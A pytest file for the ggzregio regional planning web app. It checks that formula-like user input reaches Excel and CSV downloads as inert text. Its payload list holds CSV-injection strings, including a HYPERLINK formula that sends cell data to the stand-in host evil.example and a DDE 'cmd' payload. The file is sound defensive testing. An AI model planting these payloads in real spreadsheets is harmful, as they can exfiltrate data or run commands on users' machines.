"""Downloads that cannot attack (issue 22, point 1): a text typed into ggzregio that looks like
a spreadsheet formula is written to Excel as a text cell, never a formula, and to CSV with a
leading ``'`` (OWASP, CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ggzregio.demo import demo_areas_path
from ggzregio.io.results import ResultSet, write_results
from tests.web_support import EDITOR, client_for, demo_database, token_for

PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1")  # fmt: skip


def _formulas(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_results_write_formulas_as_text(tmp_path: Path) -> None:
    table = pd.DataFrame({"area_name": list(PAYLOADS), "adults": [-5, 0, 1, 2, 3, 4]})
    result = ResultSet({"area": table}, {"source": "=cmd|' /C calc'!A0"})
    (xlsx,) = write_results(result, tmp_path / "uit.xlsx")
    assert _formulas(xlsx.read_bytes()) == []
    book = openpyxl.load_workbook(xlsx)
    sheet = next(ws for ws in book.worksheets if ws.title != "toelichting")
    written = [sheet.cell(r, 1).value for r in range(2, 8)]
    assert written == [p.replace("\r", "\n") for p in PAYLOADS]  # as typed (XML reads \r as \n)
    assert sheet.cell(2, 2).value == -5  # numbers stay numbers
    (text,) = write_results(result, tmp_path / "uit.csv")
    rows = list(csv.reader(io.StringIO(text.read_text(encoding="utf-8"), newline="")))
    assert [r[0] for r in rows[1:]] == [f"'{p}".replace("\r", "\n") for p in PAYLOADS]
    assert rows[1][1] == "-5"


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> str:
    address = f"sqlite:///{tmp_path_factory.mktemp('inject') / 'app.db'}"
    demo_database(address)
    return address


def test_an_area_name_typed_as_a_formula_stays_text_in_every_download(url: str) -> None:
    areas = pd.read_csv(demo_areas_path(), dtype=str)
    region = areas[areas["region_code"] == "RG01"].copy()
    region.iloc[0, region.columns.get_loc("area_name")] = PAYLOADS[0]
    first = region["municipality_code"] == region["municipality_code"].iloc[0]
    region.loc[first, "municipality_name"] = PAYLOADS[3]
    client = client_for(url)
    headers = {"Authorization": f"Bearer {token_for(url, EDITOR)}"}
    stored = client.post(
        "/api/v1/regions/RG01/areas",
        files={"file": ("gebieden.csv", region.to_csv(index=False).encode(), "text/csv")},
        headers=headers,
    )
    assert stored.status_code == 201, stored.text
    for path in ("/regio/RG01/download/gebieden.xlsx", "/download/regios.xlsx",
                 "/regio/RG01/download/gemeenten.xlsx"):  # fmt: skip
        answer = client.get(path, headers=headers)
        assert answer.status_code == 200, path
        assert _formulas(answer.content) == [], path
    text = client.get("/regio/RG01/download/gebieden.csv", headers=headers).text
    assert f"'{PAYLOADS[0]}".replace('"', '""') in text
    assert "\n=HYPERLINK" not in text
    assert ",=HYPERLINK" not in text


def test_inventory_and_monitor_sources_typed_as_formulas_stay_text(url: str) -> None:
    """The other inputs that reach a download: an inventory entry's source and note, and a
    monitor value's source, each planted with every payload."""
    client = client_for(url)
    headers = {"Authorization": f"Bearer {token_for(url, EDITOR)}"}
    entries = [{"key": "fact", "fte": 10.0, "source": PAYLOADS[0], "note": PAYLOADS[1]}]
    stored = client.put("/api/v1/regions/RG01/inventories/2026", json={"entries": entries},
                        headers=headers)  # fmt: skip
    assert stored.status_code == 200, stored.text
    values = [{"indicator": "fact_teams", "year": 2030 + i, "value": 12, "source": payload}
              for i, payload in enumerate(PAYLOADS)]  # fmt: skip
    written = client.put("/api/v1/regions/RG01/monitor", json={"values": values},
                         headers=headers)  # fmt: skip
    assert written.status_code == 200, written.text
    for path in ("/regio/RG01/download/inventaris.xlsx", "/regio/RG01/inventaris/sjabloon.xlsx",
                 "/regio/RG01/download/monitor.xlsx"):  # fmt: skip
        answer = client.get(path, headers=headers)
        assert answer.status_code == 200, path
        assert _formulas(answer.content) == [], path
    inventory = client.get("/regio/RG01/download/inventaris.csv", headers=headers).text
    assert f"'{PAYLOADS[0]}".replace('"', '""') in inventory
    assert f"'{PAYLOADS[1]}" in inventory
    series = client.get("/regio/RG01/download/monitor.csv", headers=headers).text
    rows = list(csv.reader(io.StringIO(series, newline="")))
    sources = {cell for row in rows for cell in row if cell.lstrip("'").startswith(("=", "@"))}
    assert sources, "the planted sources are in the download"
    assert all(cell.startswith("'") for cell in sources)
